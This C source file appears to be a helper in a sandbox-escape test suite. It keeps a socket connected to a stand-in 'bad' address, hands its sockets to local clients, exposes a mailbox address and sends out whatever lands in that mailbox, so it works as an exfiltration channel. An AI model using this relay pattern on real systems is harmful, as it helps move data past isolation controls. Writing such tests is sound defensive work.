// A process of the same user that was there before the session, with a connection of its own. It
// sends whatever is in its mailbox, and passes sockets to whoever asks. Not an accomplice but for
// the socket that it passes: the others reach into it.
#include "attack.h"

static volatile char mailbox[128];

static void pass(int to, int fd) {
    union { char bytes[CMSG_SPACE(sizeof(int))]; struct cmsghdr align; } control = {{0}};
    struct iovec v = {"x", 1};
    struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    struct cmsghdr *header = CMSG_FIRSTHDR(&m);
    *header = (struct cmsghdr){CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS};
    memcpy(CMSG_DATA(header), &fd, sizeof fd);
    sendmsg(to, &m, MSG_NOSIGNAL);
}

int main(int argc, char **argv) {
    begin(argc, argv);
    struct sockaddr_in a = in4(bad);
    int connected = must(socket(AF_INET, SOCK_DGRAM, 0)), loose = must(socket(AF_INET, SOCK_DGRAM, 0));
    must(connect(connected, SA(&a), sizeof a));
    struct sockaddr_un path = {.sun_family = AF_UNIX, .sun_path = "older.sock"};
    int listener = must(socket(AF_UNIX, SOCK_STREAM, 0));
    must(bind(listener, SA(&path), sizeof path));
    must(listen(listener, 8));
    FILE *file = fopen("older.new", "w");
    fprintf(file, "%p %d\n", (void *)mailbox, connected);
    fclose(file);
    must(rename("older.new", "older"));
    for (;;) {
        struct pollfd wait = {listener, POLLIN, 0};
        if (poll(&wait, 1, 20) > 0) {
            int client = accept(listener, NULL, NULL);
            char asked = 0;
            if (read(client, &asked, 1) == 1) {
                if (asked == 'l') pass(client, loose);
                else if (asked == 'c') pass(client, connected);
                else if (asked == 'b') write_token(connected);
            }
            close(client);
        }
        if (mailbox[0]) send(connected, (const void *)mailbox, strlen((const char *)mailbox), 0);
    }
}
